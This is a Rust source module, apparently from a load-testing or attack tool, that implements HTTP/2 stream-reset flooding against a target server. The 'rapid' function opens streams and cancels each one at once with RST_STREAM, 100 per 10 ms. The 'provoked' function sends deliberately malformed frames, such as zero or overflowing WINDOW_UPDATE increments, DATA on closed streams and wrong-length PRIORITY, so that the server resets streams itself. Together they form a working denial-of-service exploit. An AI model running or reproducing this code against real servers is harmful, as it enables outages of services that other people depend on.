//! Work that is ordered and taken back at once, by the client or, provoked, by the server.

use std::io;

use super::{
    Aim, Tally, hpack,
    wire::{self, DATA, HEADERS, PRIORITY, RST_STREAM, WINDOW_UPDATE},
};

/// `CANCEL` (RFC 9113 §7).
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// In each beat of 10 ms.
const RAPID: u32 = 100;
const PROVOKED: u32 = 50;

/// The next stream of the client; they begin anew where no more can be had, which is a mistake
/// that the server ends the connection for.
fn next(stream: &mut u32) -> u32 {
    let this = *stream;
    *stream = (*stream + 2) & 0x7fff_ffff;
    this
}

pub(super) async fn rapid(_number: usize, aim: &Aim, tally: &Tally) -> io::Result<()> {
    let section = hpack::request("GET", &aim.target.h2.authority(), &aim.target.large);
    let mut stream = 1;
    wire::flood(aim, tally, wire::preface(&[], 0), true, |out| {
        for _ in 0..RAPID {
            let this = next(&mut stream);
            wire::section(out, this, true, &section);
            wire::frame(out, RST_STREAM, 0, this, &CANCEL);
        }
        tally.add("streams", RAPID.into());
    })
    .await
}

/// What makes a server reset a stream on which everything was well so far (RFC 9113 §5.4.2).
pub(super) async fn provoked(number: usize, aim: &Aim, tally: &Tally) -> io::Result<()> {
    let section = hpack::request("GET", &aim.target.h2.authority(), &aim.target.large);
    let mut stream = 1;
    wire::flood(aim, tally, wire::preface(&[], 0), true, |out| {
        for _ in 0..PROVOKED {
            let this = next(&mut stream);
            wire::section(out, this, true, &section);
            match number % 5 {
                // §6.9: an increment of nothing.
                0 => wire::frame(out, WINDOW_UPDATE, 0, this, &[0; 4]),
                // §6.9.1: a window beyond 2^31 - 1.
                1 => wire::frame(out, WINDOW_UPDATE, 0, this, &0x7fff_ffff_u32.to_be_bytes()),
                // §5.1: data on a stream that the client has closed.
                2 => wire::frame(out, DATA, 0, this, b"x"),
                // §5.1: a second header section on it.
                3 => wire::frame(out, HEADERS, wire::END_HEADERS, this, &section),
                // §6.3: PRIORITY of the wrong length.
                _ => wire::frame(out, PRIORITY, 0, this, &[0; 4]),
            }
        }
        tally.add("streams", PROVOKED.into());
    })
    .await
}
